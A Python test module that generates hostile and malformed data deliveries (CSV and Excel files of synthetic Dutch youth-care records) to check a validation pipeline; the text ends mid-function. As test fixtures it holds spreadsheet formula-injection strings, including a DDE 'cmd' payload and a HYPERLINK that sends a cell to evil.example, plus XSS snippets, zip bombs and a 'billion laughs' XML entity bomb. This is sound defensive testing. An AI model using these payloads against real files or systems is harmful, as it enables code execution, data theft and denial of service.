"""A corpus of broken and hostile deliveries, each with the verdict a steward must get
(delivery-format.md §2, §8, §9). Both `databank check` and the pipeline run every case.

A case writes its files into a month folder; `place` puts that folder where the case needs it
(an ordinary `<landing>/<provider>/<month>`, or behind a symbolic link). Every identifying cell
holds a canary value (§9.13): the token ZQX, a valid BSN from `BSNS`, or one of `CANARIES`.
`verify_report` then checks the steward's report: verdict, fault codes, the physical line of
every quarantined row, no canary, no raw HTML, no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import os
import random
import re
import struct
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from openpyxl import Workbook
from stdnum.nl import bsn as stdnum_bsn

from tests.builders import METINGEN_HEADER, TEST_TEAMS, TRAJECTEN_HEADER

ACCEPTED = "accepted"
QUARANTINE = "accepted_with_quarantine"
REJECTED = "rejected"
EXIT_STATUS = {ACCEPTED: 0, QUARANTINE: 0, REJECTED: 1}
OORDEEL = {
    "GEACCEPTEERD": ACCEPTED,
    "GEACCEPTEERD, met afgekeurde regels": QUARANTINE,
    "AFGEWEZEN": REJECTED,
}
T, M = "trajecten", "metingen"
# The corpus consortium's team registers: horizon-jeugd has none, so every team it delivers is
# the unregistered team and its reports say so once (WARN_TEAM_REGISTER_MISSING).
CORPUS_TEAMS = {"de-boog": TEST_TEAMS}
DROPPED = "WARN_COLUMN_DROPPED"  # the canary column `dossierhouder` every base file carries
PAST = (1_700_000_000, 1_700_000_000)  # files older than the sensor's settling time


# --- canaries --------------------------------------------------------------------------------------

def _valid_bsns(prefix: int, count: int) -> tuple[str, ...]:
    found: list[str] = []
    n = prefix
    while len(found) < count:
        for last in range(10):
            candidate = f"{n:08d}{last}"
            if stdnum_bsn.is_valid(candidate):
                found.append(candidate)
                break
        n += 1
    return tuple(found)


BSNS = _valid_bsns(31_415_926, 120)
LEADING_ZERO_BSN = _valid_bsns(4_815_162, 1)[0]  # "0…": Excel and some exports drop the 0
BAD_BSN = "111222334"  # fails the elfproef
assert not stdnum_bsn.is_valid(BAD_BSN) and LEADING_ZERO_BSN.startswith("0")

TOKEN = "zqx"  # every identifying text value carries it; searched case-insensitively
BIRTH_DATE = "17-06-2009"
POSTCODE = "9876 QW"
PHONE = "06-91827364"
EXTRA_COLUMN = "dossierhouder"  # not in the format: may hold anything, never echoed
CANARIES = (
    BIRTH_DATE, "2009-06-17", POSTCODE, "9876QW", PHONE, BAD_BSN, LEADING_ZERO_BSN,
    LEADING_ZERO_BSN[1:], *BSNS,
)
N = 40  # rows per table in a base delivery: 4 bad rows are exactly 10 % (still accepted)


def client(n: int) -> str:
    return f"ZQX-CL-{n:04d}"


def traject(n: int) -> str:
    return f"ZQX-TR-{n:04d}"


T_HEADER = [*TRAJECTEN_HEADER, EXTRA_COLUMN]
M_HEADER = list(METINGEN_HEADER)
T_INDEX = {name: i for i, name in enumerate(T_HEADER)}


def traj(n: int, **overrides: str) -> dict[str, str]:
    """Valid trajectory n (started 1 March 2016, aged 6; even numbers ended in December 2016),
    with a canary in every identifying column."""
    ended = n % 2 == 0
    row = {
        "clientnummer": client(n),
        "bsn": BSNS[n % len(BSNS)],
        "voornaam": "Zqxina",
        "tussenvoegsel": "van Zqx",
        "achternaam": "Zqxberg",
        "geboortedatum": BIRTH_DATE,
        "geslacht": "MVXO"[n % 4],
        "postcode": POSTCODE,
        "adres": "Zqxstraat 13",
        "woonplaats": "Zqxdorp",
        "telefoon": PHONE,
        "email": "zqx.kanarie@example.nl",
        "traject_id": traject(n),
        "team": "Team Noord" if n % 2 else "Team Zuid",
        "interventie": "MST" if n % 3 else "FFT",
        "hulpvorm": ("ambulant", "daghulp", "verblijf", "pleegzorg", "overig")[n % 5],
        "startdatum": "01-03-2016",
        "einddatum": "15-12-2016" if ended else "",
        "reden_einde": "1" if ended else "",
        "doelrealisatie": "2" if ended else "",
        "tevredenheid": "8" if ended else "",
        "opmerkingen": "ZQX-GEHEIM moeder vertelde over de buren",
        "bezwaar": "nee" if n % 3 else "",
        EXTRA_COLUMN: "Dr. Zqx Houder",
    }
    row.update(overrides)
    return row


def meas(n: int, **overrides: str) -> dict[str, str]:
    """The start measurement of trajectory n."""
    row = {
        "clientnummer": client(n),
        "traject_id": traject(n),
        "instrument": "CBCL",
        "schaal": "totaal",
        "informant": "ouder",
        "meetmoment": "start",
        "datum": "05-03-2016",
        "score": "70",
    }
    row.update(overrides)
    return row


def trajectories(count: int = N, **changes: dict[str, str]) -> list[dict[str, str]]:
    """`count` trajectories; `changes={"i3": {...}}` overrides cells of row index 3."""
    return [traj(i, **changes.get(f"i{i}", {})) for i in range(count)]


def measurements(count: int = N, **changes: dict[str, str]) -> list[dict[str, str]]:
    return [meas(i, **changes.get(f"i{i}", {})) for i in range(count)]


def line(index: int) -> int:
    """Physical line of data row `index` in a plain file (the header is line 1)."""
    return index + 2


# --- writing files ---------------------------------------------------------------------------------

def records(header: Sequence[str], rows: Sequence[dict[str, str]], delimiter: str = ";") -> list[str]:
    """The header and each row as one CSV record (without line terminator)."""
    out = []
    for cells in [list(header), *[[row.get(c, "") for c in header] for row in rows]]:
        buffer = io.StringIO()  # "\r\n" as terminator, so fields holding a line break are quoted
        csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerow(cells)
        out.append(buffer.getvalue()[:-2])
    return out


def put(folder: Path, name: str, text: str | bytes, encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode(encoding))
    return path


def write_csvs(
    folder: Path,
    trajecten: Sequence[dict[str, str]] | None = None,
    metingen: Sequence[dict[str, str]] | None = None,
    *,
    t_header: Sequence[str] = T_HEADER,
    m_header: Sequence[str] = M_HEADER,
    encoding: str = "utf-8",
    delimiter: str = ";",
    newline: str = "\r\n",
    bom: bool = False,
    names: tuple[str, str] = ("trajecten.csv", "metingen.csv"),
) -> None:
    trajecten = trajectories() if trajecten is None else trajecten
    metingen = measurements() if metingen is None else metingen
    for name, header, rows in ((names[0], t_header, trajecten), (names[1], m_header, metingen)):
        text = newline.join(records(header, rows, delimiter)) + newline
        put(folder, name, ("\ufeff" if bom else "") + text, encoding)


def write_lines(folder: Path, name: str, lines: Sequence[str], newline: str = "\r\n") -> None:
    put(folder, name, newline.join(lines) + newline)


def base(folder: Path) -> None:
    write_csvs(folder)


def with_trajecten_text(text: str | bytes) -> Callable[[Path], None]:
    """A valid metingen.csv and the given trajecten.csv."""

    def write(folder: Path) -> None:
        write_csvs(folder)
        put(folder, "trajecten.csv", text)

    return write


def xlsx_bytes(
    trajecten: Sequence[Sequence[object]] | None,
    metingen: Sequence[Sequence[object]] | None,
    sheet_names: tuple[str, str] = ("trajecten", "metingen"),
    text_cells: frozenset[tuple[int, int]] | set[tuple[int, int]] = frozenset(),
) -> bytes:
    """A workbook with a sheet per given table (rows as lists of cell values, header first)."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for name, rows in zip(sheet_names, (trajecten, metingen), strict=True):
        if rows is None:
            continue
        sheet = workbook.create_sheet(name)
        for row in rows:
            sheet.append(list(row))
        if name == sheet_names[0]:
            for row_number, column_number in text_cells:  # formula-looking text stored as text
                sheet.cell(row_number, column_number).data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def table_cells(header: Sequence[str], rows: Sequence[dict[str, object]]) -> list[list[object]]:
    return [list(header), *[[row.get(c) if row.get(c) != "" else None for c in header] for row in rows]]


# --- the cases -------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    """One delivery and what the steward must be told about it.

    `codes`: exactly the distinct fault codes the report must list (warnings included). `rows`: the physical lines (per table) that must be reported as quarantined, exactly; their
    number is the quarantined count in the report. `at`: (code, table, line) findings that must
    be present. `shown`: values of non-identifying columns that must appear (neutralised) in the
    waarde column of bevindingen.csv. `forbidden`: text that must appear in no report file."""

    name: str
    write: Callable[[Path], None]
    status: str
    codes: frozenset[str]
    rows: dict[str, tuple[int, ...]] = field(default_factory=dict)
    at: tuple[tuple[str, str, int], ...] = ()
    provider: str = "de-boog"
    month: str = ""  # empty: the next of 2017-01, 2017-02, … (assigned below)
    layout: str = "plain"  # plain | month_link | provider_link
    check_file: str | None = None  # check this file of the month folder instead of the folder
    shown: tuple[str, ...] = ()
    html: tuple[str, ...] = ()
    forbidden: tuple[str, ...] = ()
    excluded: tuple[int, int] | None = None  # (trajecten, metingen) left out for bezwaar
    bug_check: str | None = None
    bug_pipeline: str | None = None
    # A known bug makes run_pipeline raise on this case: the pipeline test runs it in a home of
    # its own, so that it cannot take the other cases down with it.
    breaks_run: bool = False

    def quarantined(self, table: str) -> int:
        return len(self.rows.get(table, ()))

    @property
    def pipeline_key(self) -> tuple[str, str]:
        """(provider, month) under which the pipeline reports this delivery."""
        return (self.provider, "(link)") if self.layout == "provider_link" else (self.provider, self.month)


def case(name: str, write: Callable[[Path], None], status: str, *codes: str, **kwargs: object) -> Case:
    return Case(name, write, status, frozenset(codes), **kwargs)  # type: ignore[arg-type]


# Encoding and binary garbage ------------------------------------------------------------------------

def random_bytes(folder: Path) -> None:
    write_csvs(folder)
    put(folder, "trajecten.csv", bytes(range(0x80, 0x100)) + random.Random(20).randbytes(8192))


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
    b"\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\xcf\xc0\x00\x00\x03\x01\x01\x00\xc9\xfe\x92\xef"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)


def utf16(folder: Path, with_bom: bool) -> None:
    write_csvs(folder)
    text = "\r\n".join(records(T_HEADER, trajectories())) + "\r\n"
    put(folder, "trajecten.csv", text.encode("utf-16" if with_bom else "utf-16-le"))


def cp1252_undefined_bytes(folder: Path) -> None:
    """A Windows-1252 export (é is 0xE9, so not UTF-8) with the undefined bytes 0x81 and 0x8D."""
    rows = trajectories(i3={"opmerkingen": "ZQX-GEHEIM caf\u00e9", "voornaam": "Zq~x~"})
    text = "\r\n".join(records(T_HEADER, rows)) + "\r\n"
    data = text.encode("cp1252").replace(b"Zq~x~", b"Zq\x81x\x8d", 1)
    write_csvs(folder)
    put(folder, "trajecten.csv", data)


def nul_byte(folder: Path) -> None:
    """A UTF-8 export with one NUL byte (a damaged or binary file)."""
    lines = records(T_HEADER, trajectories())
    lines[4] = lines[4].replace("Zqxina", "Zqx\x00ina")
    write_csvs(folder)
    write_lines(folder, "trajecten.csv", lines)


def mixed_encodings(folder: Path) -> None:
    """UTF-8 with one Windows-1252 row appended (two exports glued together): decoded as
    Windows-1252 as a whole (§9.10), so the names are mojibake, and they are dropped anyway."""
    rows = trajectories(i1={"voornaam": "Zqx\u00eblla", "team": "Team Zo\u00eb"})
    data = ("\r\n".join(records(T_HEADER, rows)) + "\r\n").encode("utf-8")
    data += ("\r\n".join(records(T_HEADER, [traj(N, voornaam="Zqx\u00e9")])[1:]) + "\r\n").encode("cp1252")
    write_csvs(folder, metingen=measurements(N + 1))
    put(folder, "trajecten.csv", data)


# Workbooks ------------------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"


def valid_xlsx() -> bytes:
    return xlsx_bytes(table_cells(T_HEADER, trajectories()), table_cells(M_HEADER, measurements()))


def truncated_xlsx(folder: Path) -> None:
    data = valid_xlsx()
    put(folder, "export.xlsx", data[: len(data) // 2])


def csv_renamed_xlsx(folder: Path) -> None:
    put(folder, "export.xlsx", "\r\n".join(records(T_HEADER, trajectories())) + "\r\n")


def zip_bomb_xlsx(folder: Path) -> None:
    """A real workbook whose sheet XML is padded with 16 MB of whitespace: a few kB on disk, a
    compression ratio far above 200."""
    source = zipfile.ZipFile(io.BytesIO(valid_xlsx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == SHEET:
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * (16 << 20), 1)
            bomb.writestr(item.filename, data)
    put(folder, "export.xlsx", buffer.getvalue())


def lying_zip_bomb(folder: Path) -> None:
    """The same padding, but the zip's headers declare the sheet 40 kB: the expansion
    check sees an ordinary ratio; reading the member finds the sizes lie (bad CRC)."""
    source = zipfile.ZipFile(io.BytesIO(valid_xlsx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == SHEET:
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * (16 << 20), 1)
            bomb.writestr(item.filename, data)
    data = bytearray(buffer.getvalue())
    member = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET)
    declared = 40_000
    struct.pack_into("<I", data, member.header_offset + 22, declared)  # local file header
    central = data.find(b"PK\x01\x02")
    while central >= 0:  # the central directory entry of the sheet
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46:central + 46 + name_length] == SHEET.encode():
            struct.pack_into("<I", data, central + 24, declared)
            break
        central = data.find(b"PK\x01\x02", central + 4)
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET).file_size == declared
    put(folder, "export.xlsx", bytes(data))


def xlsx_one_sheet(folder: Path) -> None:
    put(folder, "export.xlsx", xlsx_bytes(table_cells(T_HEADER, trajectories()), None))


def xlsx_real_export(folder: Path) -> None:
    """What Excel makes of it: date cells, numbers as numeric cells (an 8-digit BSN), capitalised
    sheet and column names, an empty row in the middle and a faulty row after it (sheet row 8)."""
    rows: list[dict[str, object]] = []
    for i in range(N):
        row: dict[str, object] = dict(traj(i))
        row["geboortedatum"] = dt.date(2009, 6, 17)
        row["startdatum"] = dt.datetime(2016, 3, 1)
        row["einddatum"] = dt.date(2016, 12, 15) if i % 2 == 0 else None
        for column in ("reden_einde", "doelrealisatie", "tevredenheid"):
            row[column] = int(row[column]) if row[column] else None
        rows.append(row)
    rows[0]["bsn"] = int(LEADING_ZERO_BSN)  # Excel made it a number: 8 digits
    rows[1]["tevredenheid"] = 7.5
    rows[5]["bsn"] = int(BAD_BSN)
    header = [c.capitalize() for c in T_HEADER]
    t_cells = table_cells(header, [{c.capitalize(): v for c, v in r.items()} for r in rows])
    t_cells.insert(5, [None] * len(header))  # an empty sheet row 6: row index 5 is on sheet row 8
    m_rows: list[dict[str, object]] = [dict(meas(i)) for i in range(N)]
    for m_row in m_rows:
        m_row["datum"] = dt.date(2016, 3, 5)
        m_row["score"] = 70
    m_rows[3]["score"] = 65.5
    put(folder, "export.xlsx", xlsx_bytes(t_cells, table_cells(M_HEADER, m_rows), ("Trajecten", "Metingen ")))


def xlsx_formula_cells(folder: Path) -> None:
    """Formulas without a cached value (a workbook written by a script, never opened in Excel)
    are empty cells (data_only); formula-looking text (Excel's '=1+1) is text, shown neutralised."""
    rows = trajectories(
        i2={"geslacht": '=IF(TRUE,"V","M")'},
        i4={"team": '=HYPERLINK("http://evil.example","klik")'},
        i6={"hulpvorm": "=1+1"},
    )
    put(folder, "export.xlsx", xlsx_bytes(
        table_cells(T_HEADER, rows), table_cells(M_HEADER, measurements()), text_cells={(line(6), T_INDEX["hulpvorm"] + 1)}
    ))


def patched_xlsx(member: str, change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    """A valid workbook with one member of the zip rewritten (the zip itself stays valid)."""

    def write(folder: Path) -> None:
        source = zipfile.ZipFile(io.BytesIO(valid_xlsx()))
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
            for item in source.infolist():
                data = source.read(item.filename)
                target.writestr(item.filename, change(data) if item.filename == member else data)
        put(folder, "export.xlsx", buffer.getvalue())

    return write


def _cut_in_half(xml: bytes) -> bytes:
    return xml[: len(xml) // 2]


def _text_in_number_cell(xml: bytes) -> bytes:
    """The bsn cell of sheet row 2 typed as a number but holding text (a broken exporter)."""
    return re.sub(rb'<c r="B2"[^>]*?(?:/>|>.*?</c>)', b'<c r="B2" t="n"><v>Zqxberg</v></c>', xml, count=1, flags=re.S)


ENTITY_BOMB = (
    b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet ['
    b'<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">'
    + b"".join(
        b'<!ENTITY ' + bytes([c]) + b' "' + (b"&" + bytes([c - 1]) + b";") * 10 + b'">'
        for c in range(ord("b"), ord("h"))
    )
    + b"]>"
)


def _entity_bomb(xml: bytes) -> bytes:
    """'Billion laughs': a DTD whose entities expand to gigabytes, used in a team cell."""
    body = xml[xml.index(b"<worksheet"):]
    body = re.sub(rb'<c r="N2"[^>]*?(?:/>|>.*?</c>)', b'<c r="N2" t="inlineStr"><is><t>&g;</t></is></c>', body, count=1, flags=re.S)
    return ENTITY_BOMB + body


def xls_renamed_xlsx(folder: Path) -> None:
    """An old .xls (or a password-protected workbook): an OLE compound file, not a zip."""
    put(folder, "export.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4088))


def xlsx_chart_sheet(folder: Path) -> None:
    """The data on a sheet 'gegevens' and a chart sheet named 'metingen'."""
    from openpyxl.chart import BarChart, Reference

    workbook = Workbook()
    trajecten = workbook.active
    trajecten.title = "trajecten"
    for row in table_cells(T_HEADER, trajectories()):
        trajecten.append(row)
    data = workbook.create_sheet("gegevens")
    for row in table_cells(M_HEADER, measurements()):
        data.append(row)
    chart = BarChart()
    chart.add_data(Reference(data, min_col=8, min_row=1, max_row=N + 1), titles_from_data=True)
    workbook.create_chartsheet("metingen").add_chart(chart)
    buffer = io.BytesIO()
    workbook.save(buffer)
    put(folder, "export.xlsx", buffer.getvalue())


def csv_and_xlsx(folder: Path) -> None:
    write_csvs(folder)
    put(folder, "export.xlsx", valid_xlsx())


# Sizes -----------------------------------------------------------------------------------------------

BIG = 2 * 1024 * 1024


def huge_field(column: str, filler: str) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        value = (filler * (BIG // len(filler) + 1))[:BIG]
        write_csvs(folder, trajectories(i7={column: value}))

    return write


def many_columns(extra: int) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        names = [f"veld_{j:05d}" for j in range(extra)]
        header = [*T_HEADER, *names]
        rows = [{**traj(i), **{name: f"ZQX{i}-{j}" for j, name in enumerate(names)}} for i in range(N)]
        write_csvs(folder, rows, t_header=header)

    return write


# Hostile text ---------------------------------------------------------------------------------------

FORMULA_COLUMN = "=cmd|' /C calc'!A0"


def formulas(folder: Path) -> None:
    rows = trajectories(
        i2={"team": '=HYPERLINK("http://evil.example/?d="&A2,"klik")'},
        i3={"interventie": "+1"},
        i4={"geslacht": "-1"},
        i5={"hulpvorm": "@SUM(A1)"},
        i6={"geslacht": "=1+2"},
        i8={"team": "+31 6 1234"},
    )
    for row in rows:
        row[FORMULA_COLUMN] = "=2+5"
    metingen = measurements(i1={"instrument": "SDQ", "score": "-5"})
    write_csvs(folder, rows, metingen, t_header=[*T_HEADER, FORMULA_COLUMN])


SCRIPT = "<script>alert(1)</script>"


def html_injection(folder: Path) -> None:
    rows = trajectories(
        i1={"team": SCRIPT},
        i2={"geslacht": SCRIPT},
        i3={"interventie": "<img src=x onerror=alert(1)>"},
    )
    column = '<script>alert("kolom")</script>'
    for row in rows:
        row[column] = "x"
    write_csvs(folder, rows, t_header=[*T_HEADER, column])
    put(folder, "<svg onload=alert(1)>.txt", "x")


# Structure ------------------------------------------------------------------------------------------

def only_trajecten(folder: Path) -> None:
    write_csvs(folder)
    (folder / "metingen.csv").unlink()


def wrong_extension(folder: Path) -> None:
    write_csvs(folder, names=("trajecten.txt", "metingen.csv.txt"))


def trajecten_is_a_folder(folder: Path) -> None:
    write_csvs(folder)
    (folder / "trajecten.csv").unlink()
    (folder / "trajecten.csv").mkdir()
    put(folder / "trajecten.csv", "x.csv", "clientnummer\r\nZQX-1\r\n")


def missing_column(folder: Path) -> None:
    write_csvs(folder, t_header=[c for c in T_HEADER if c != "geslacht"])


def no_header_line(folder: Path) -> None:
    """An export without its header: the first data row is taken for the header."""
    write_csvs(folder)
    write_lines(folder, "trajecten.csv", records(T_HEADER, trajectories())[1:])


def repeated_column(name: str) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        lines = records(T_HEADER, trajectories())
        lines = [f"{text};{'x' if i else name}" for i, text in enumerate(lines)]
        lines[1:] = [f"{text[:-1]}Zqx herhaald" for text in lines[1:]]
        write_csvs(folder)
        write_lines(folder, "trajecten.csv", lines)

    return write


def unclosed_quote(folder: Path) -> None:
    lines = records(T_HEADER, trajectories())
    lines[10] = lines[10].replace("ZQX-GEHEIM moeder", '"ZQX-GEHEIM moeder', 1)
    write_csvs(folder)
    write_lines(folder, "trajecten.csv", lines)


def header_only(table: str) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        write_csvs(folder, trajectories() if table == M else [], [] if table == M else measurements())

    return write


def empty_file(name: str, content: bytes) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        write_csvs(folder)
        put(folder, name, content)

    return write


# Rows -----------------------------------------------------------------------------------------------

def shifted_columns(folder: Path) -> None:
    """Row index 5 lacks its einddatum field, so opmerkingen lands under tevredenheid and the
    extra column under bezwaar; row index 9 has an unquoted ';' in team. Metingen row index 3
    lacks a field. Nothing of these rows may be judged or echoed, only the field count."""
    t_lines = records(T_HEADER, trajectories(i5={"opmerkingen": "ZQX kort"}, i9={"team": "Team;Noord"}))
    fields = next(csv.reader([t_lines[line(5) - 1]], delimiter=";"))
    del fields[T_INDEX["einddatum"]]
    t_lines[line(5) - 1] = ";".join(fields)
    t_lines[line(9) - 1] = t_lines[line(9) - 1].replace('"Team;Noord"', "Team;Noord")
    m_lines = records(M_HEADER, measurements())
    m_lines[line(3) - 1] = m_lines[line(3) - 1].replace(";ouder;", ";", 1)
    write_lines(folder, "trajecten.csv", t_lines)
    write_lines(folder, "metingen.csv", m_lines)


def bad_bsns(indices: Sequence[int], count: int = N) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        changes = {f"i{i}": {"bsn": BAD_BSN} for i in indices}
        write_csvs(folder, trajectories(count, **changes), measurements(count))

    return write


def bad_scores(folder: Path) -> None:
    write_csvs(folder, metingen=measurements(**{f"i{i}": {"score": "150"} for i in (1, 9, 17, 25, 33)}))


def header_copy(folder: Path) -> None:
    """The header line again at line 12 of trajecten and line 7 of metingen (exports glued)."""
    t_lines = records(T_HEADER, trajectories())
    t_lines.insert(11, t_lines[0])
    m_lines = records(M_HEADER, measurements())
    m_lines.insert(6, m_lines[0])
    write_lines(folder, "trajecten.csv", t_lines)
    write_lines(folder, "metingen.csv", m_lines)


def concatenated_exports(folder: Path) -> None:
    """The same export appended twice: every traject_id twice, the second header a faulty row."""
    lines = records(T_HEADER, trajectories())
    write_csvs(folder)
    write_lines(folder, "trajecten.csv", lines + lines)


def multiline_field(folder: Path) -> None:
    """Quoted line breaks in opmerkingen (CRLF and a bare LF): later records start on later
    lines than their count (§9.5). Row index 4 (physical line 9) has a bad BSN; metingen row
    index 2 a score out of range on line 4."""
    rows = trajectories(
        i1={"opmerkingen": "ZQX regel een\r\nregel twee\r\nregel drie"},
        i3={"opmerkingen": "ZQX a\nb"},
        i4={"bsn": BAD_BSN},
    )
    write_csvs(folder, rows, measurements(i2={"score": "101"}))


def blank_lines(folder: Path) -> None:
    """Blank lines and ';;;;' lines in the middle still count as lines; trailing empty rows as
    Excel leaves them; two before the header too. The bad BSN of row index 6 is on line 13."""
    lines = ["", ";;;;"] + records(T_HEADER, trajectories(i6={"bsn": BAD_BSN}))
    lines.insert(5, "")
    lines.insert(7, ";" * (len(T_HEADER) - 1))
    lines.insert(8, "   ;  ;")
    lines += [";" * (len(T_HEADER) - 1)] * 30 + [""] * 5
    write_csvs(folder)
    write_lines(folder, "trajecten.csv", lines)


def trailing_empty_rows(folder: Path) -> None:
    t_lines = records(T_HEADER, trajectories()) + [";" * (len(T_HEADER) - 1)] * 50 + ["", ""]
    m_lines = records(M_HEADER, measurements()) + [";;;;;;;"] * 10
    write_lines(folder, "trajecten.csv", t_lines)
    write_lines(folder, "metingen.csv", m_lines)


def trailing_delimiter(folder: Path) -> None:
    """Every line ends in ';' (an empty, unnamed last column), as some exports write."""
    t_lines = [text + ";" for text in records(T_HEADER, trajectories())]
    m_lines = [text + ";" for text in records(M_HEADER, measurements())]
    write_lines(folder, "trajecten.csv", t_lines)
    write_lines(folder, "metingen.csv", m_lines)


def tab_delimited(folder: Path) -> None:
    """Excel's 'Text (tab-delimited)' saved as .csv: a delimiter the format does not accept."""
    write_csvs(folder, delimiter="\t")


def excel_sep_line(folder: Path) -> None:
    """'sep=;' on the first line, the hint some tools write for Excel: not part of the format, so
    it is taken for the header."""
    write_csvs(folder)
    for name in ("trajecten.csv", "metingen.csv"):
        path = folder / name
        path.write_bytes(b"sep=;\r\n" + path.read_bytes())


def bom_then_cp1252(folder: Path) -> None:
    """A UTF-8 BOM in front of Windows-1252 text (rows pasted from another export)."""
    rows = trajectories(i1={"voornaam": "Zqx\u00e9", "team": "Team \u00e9\u00e9n"})
    write_csvs(folder)
    put(folder, "trajecten.csv", b"\xef\xbb\xbf" + ("\r\n".join(records(T_HEADER, rows)) + "\r\n").encode("cp1252"))


ALIASES = {
    "clientnummer": "Cli\u00ebnt-nummer", "bsn": "Burgerservicenummer", "geboortedatum": "Geboorte datum",
    "traject_id": "Traject.nummer", "startdatum": "Start_Datum", "reden_einde": "Reden einde",
}


def header_spellings(folder: Path) -> None:
    """Spellings of the spec's column names that real systems export (accents, separators,
    aliases); accepted as the columns they name."""
    rows = trajectories()
    for row in rows:
        del row[EXTRA_COLUMN]
    header = [ALIASES.get(c, c) for c in TRAJECTEN_HEADER]
    renamed = [{ALIASES.get(c, c): v for c, v in row.items()} for row in rows]
    write_csvs(folder, renamed, t_header=header)


def alias_twice(folder: Path) -> None:
    """'clientnummer' and its alias 'Client nr' both in the header: the same column twice."""
    rows = [{**row, "Client nr": f"ZQX-{i}"} for i, row in enumerate(trajectories())]
    write_csvs(folder, rows, t_header=[*T_HEADER, "Client nr"])


def trajecten_is_a_fifo(folder: Path) -> None:
    """A named pipe where trajecten.csv should be: reading it would block for ever."""
    write_csvs(folder)
    (folder / "trajecten.csv").unlink()
    os.mkfifo(folder / "trajecten.csv")


def only_objections(folder: Path) -> None:
    """Every trajectory has bezwaar = ja (in three spellings): all rows and their measurements
    are left out before anything else happens."""
    spellings = ("ja", "JA", " Ja ")
    rows = [traj(i, bezwaar=spellings[i % 3]) for i in range(5)]
    write_csvs(folder, rows, measurements(5))


def one_row_change(t: dict[int, dict[str, str]] | None = None, m: dict[int, dict[str, str]] | None = None) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        write_csvs(
            folder,
            trajectories(**{f"i{i}": c for i, c in (t or {}).items()}),
            measurements(**{f"i{i}": c for i, c in (m or {}).items()}),
        )

    return write


def duplicate_traject_id(folder: Path) -> None:
    """Row index 12 carries the traject_id of row index 30 (so does its measurement)."""
    write_csvs(
        folder,
        trajectories(i12={"traject_id": traject(30)}),
        measurements(i12={"traject_id": traject(30), "meetmoment": "eind", "datum": "10-12-2016"}),
    )


def unknown_trajectory(folder: Path) -> None:
    write_csvs(folder, metingen=[*measurements(), meas(7, traject_id="ZQX-TR-9999")])


def extra_files(folder: Path) -> None:
    write_csvs(folder)
    put(folder, "toelichting.docx", b"PK\x03\x04 not really")
    put(folder, "Thumbs.db", b"\x00\x01")
    put(folder, ".~lock.trajecten.csv#", "lock")


# Accepted variants (§2) -----------------------------------------------------------------------------

def variant_bom_crlf_decimal_comma(folder: Path) -> None:
    rows = trajectories(i0={"tevredenheid": "7,5"}, i2={"einddatum": "1-9-2016"}, i3={"startdatum": "1-3-2016"})
    for row in rows:
        del row[EXTRA_COLUMN]
    write_csvs(folder, rows, measurements(i1={"score": "65,5"}), t_header=TRAJECTEN_HEADER, bom=True)


def variant_cp1252_comma_iso_lf(folder: Path) -> None:
    rows = trajectories(i1={"voornaam": "Zqx\u00ebll\u00e9", "team": "Team Zuid\u00e9\u00e9"}, i0={"tevredenheid": "7.5"})
    for row in rows:
        for column in ("startdatum", "einddatum"):
            if row[column]:
                day, month, year = row[column].split("-")
                row[column] = f"{year}-{month}-{day}"
        del row[EXTRA_COLUMN]
    header = [f" {c.upper()} " if i % 2 else c.capitalize() for i, c in enumerate(TRAJECTEN_HEADER)]
    renamed = [{h: row[c] for h, c in zip(header, TRAJECTEN_HEADER, strict=True)} for row in rows]
    write_csvs(
        folder, renamed, measurements(i4={"score": "66.5", "datum": "2016-03-05"}), t_header=header,
        encoding="cp1252", delimiter=",", newline="\n",
    )


def variant_comma_quoted_decimals_upper_names(folder: Path) -> None:
    rows = trajectories(
        i0={"tevredenheid": "7,5", "geslacht": "v", "hulpvorm": "AMBULANT", "interventie": "mst",
            "bezwaar": "NEE", "bsn": LEADING_ZERO_BSN[1:]},
        i1={"bsn": f" {BSNS[1][:3]} {BSNS[1][3:6]} {BSNS[1][6:]} ".replace(" ", "", 1)},
    )
    for row in rows:
        del row[EXTRA_COLUMN]
    write_csvs(
        folder, rows, measurements(i1={"score": "61,5", "informant": "Ouder", "meetmoment": "START"}),
        t_header=TRAJECTEN_HEADER, delimiter=",", names=("TRAJECTEN.CSV", "Metingen.Csv"), bom=True,
    )


def variant_padded_values(folder: Path) -> None:
    rows = [{k: (f"  {v}  " if v else "   ") for k, v in row.items()} for row in trajectories()]
    for row in rows:
        del row[EXTRA_COLUMN]
